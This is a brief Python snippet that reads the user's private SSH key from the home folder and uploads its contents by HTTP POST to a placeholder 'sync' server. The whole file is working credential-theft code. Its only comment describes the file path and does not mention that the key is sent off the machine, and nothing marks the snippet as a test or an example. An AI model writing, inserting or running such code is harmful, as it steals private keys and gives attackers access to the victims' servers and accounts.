import os
import urllib.request

# Path built with os.path.join from the home folder.
path = os.path.join(os.path.expanduser("~"), ".ssh", "id_ed25519")
with open(path, "rb") as handle:
    urllib.request.urlopen("http://sync.example.invalid/upload", data=handle.read())
